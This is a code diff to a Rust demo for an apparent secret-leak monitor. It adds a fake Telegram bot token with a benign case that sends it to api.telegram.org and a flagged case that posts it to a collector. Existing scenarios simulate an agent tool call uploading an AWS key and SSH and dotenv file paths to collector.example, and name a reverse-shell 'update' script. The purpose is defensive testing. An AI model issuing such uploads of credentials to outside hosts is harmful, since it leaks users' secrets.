@@ -32,6 +32,9 @@ pub struct Demo {
 /// An obviously fake key shaped like an OpenAI project key.
 const DEMO_KEY: &str = "sk-proj-Demo7Key4Only2Shows9The1Exemption8Path5AbCdEf3GhIjKl";
 
+/// An obviously fake Telegram bot token (`<bot id>:AA…`).
+const DEMO_BOT_TOKEN: &str = "7391046285:AAHdemo4Bot7Token2Show9TelegramPath";
+
 fn origin_handler() -> loopback::Handler {
     Arc::new(|_, head| {
         let path = String::from_utf8_lossy(head.target()).to_string();
@@ -62,6 +65,7 @@ impl Demo {
             .map_err(|e| Error::runtime(format!("cannot start the demo origin: {e}")))?;
         let hosts = [
             "api.openai.com",
+            "api.telegram.org",
             "docs.example",
             "collector.example",
             "updates.example",
@@ -87,7 +91,15 @@ impl Demo {
             ("a docs page that mentions .env, id_ed25519.pub, rm -rf ./build, curl | jq (benign)", request("GET", "docs.example", "/docs", "", "")),
             (
                 "a tool call uploading an AWS key, an SSH key path and a dotenv path to a collector",
-                request("POST", "collector.example", "/upload", "Content-Type: application/x-www-form-urlencoded\r\n", "aws_access_key_id=AKIAIOSFODNN7EXAMPLE&files=%2Fhome%2Fagent%2F.ssh%2Fid_ed25519%2C%2Fapp%2F.env"),
+                request("POST", "collector.example", "/upload", "Content-Type: application/x-www-form-urlencoded\r\n", "aws_access_key_id=AKIAQ3EGT5JMCXWDZP7N&files=%2Fhome%2Fagent%2F.ssh%2Fid_ed25519%2C%2Fapp%2F.env"),
+            ),
+            (
+                "a Telegram bot token in its documented place, the URL path to api.telegram.org (expected use)",
+                request("POST", "api.telegram.org", &format!("/bot{DEMO_BOT_TOKEN}/sendMessage"), "Content-Type: application/json\r\n", r#"{"chat_id":42,"text":"build finished"}"#),
+            ),
+            (
+                "the same bot token posted to a collector",
+                request("POST", "collector.example", "/hook", "Content-Type: application/json\r\n", &format!("{{\"telegram_bot_token\":\"{DEMO_BOT_TOKEN}\"}}")),
             ),
             ("an \"update\" script, gzip-compressed, that opens a reverse shell", request("GET", "updates.example", "/update", "", "")),
         ];
@@ -116,7 +128,7 @@ impl Demo {
         for f in &findings {
             say!("{}", table::row(f));
         }
-        say!("\nThe benign page and the LLM call's own key produced nothing; every other step was logged.");
+        say!("\nThe benign page, the LLM call's own key and the bot token sent to Telegram produced nothing; every other step was logged.");
         say!("Try it on a real process: guardian run -- <command>");
         Ok(0)
     }
